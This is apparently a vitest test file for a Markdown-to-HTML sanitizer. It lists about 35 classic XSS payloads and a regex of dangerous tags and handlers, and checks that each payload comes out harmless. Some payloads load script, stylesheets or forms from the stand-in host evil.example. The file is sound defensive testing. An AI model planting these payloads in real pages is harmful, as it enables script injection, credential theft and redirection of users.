import { describe, expect, it } from 'vitest';
import { markdownToHtml } from './markdown.js';

/**
 * Text people write in Markdown (a brief, a newsletter issue, a page) with HTML of their own in it:
 * the classic ways of running script or restyling the page, each of which must come out harmless.
 */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '[click](javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">cover the page</p>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="//evil.example/">',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="main">steals the page’s landmark</p>',
  '<span lang="en" dir="rtl" onfocus="alert(1)" tabindex=1>x</span>',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

/** What must never come out: script, handlers, script addresses, foreign frames, styles, forms, ids of the page's own. */
const DANGEROUS = /<(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|details|noscript)\b|\son\w+\s*=|javascript:|vbscript:|data:text|\sstyle\s*=|\sid="main"|\stabindex/i;

describe('HTML in Markdown', () => {
  for (const payload of CORPUS) {
    it(`is made harmless: ${payload}`, () => {
      const html = markdownToHtml(`A paragraph.\n\n${payload}\n\nAnother paragraph.`);
      expect(html).not.toMatch(DANGEROUS);
      expect(html).toContain('<p>Another paragraph.</p>');
    });
  }

  it('keeps a passage’s language and direction, and only real ones', () => {
    const html = markdownToHtml('<p lang="ar" dir="rtl">التعلم</p>\n\nA word in Chinese: <span lang="zh-Hans">学习</span>.\n\n<blockquote lang="ru">Учиться</blockquote>\n\n<p dir="sideways" lang="x&quot;onload=1">odd</p>');
    expect(html).toContain('<p lang="ar" dir="rtl">التعلم</p>');
    expect(html).toContain('<span lang="zh-Hans">学习</span>');
    expect(html).toContain('<blockquote lang="ru">Учиться</blockquote>');
    expect(html).toContain('<p>odd</p>');
  });
});
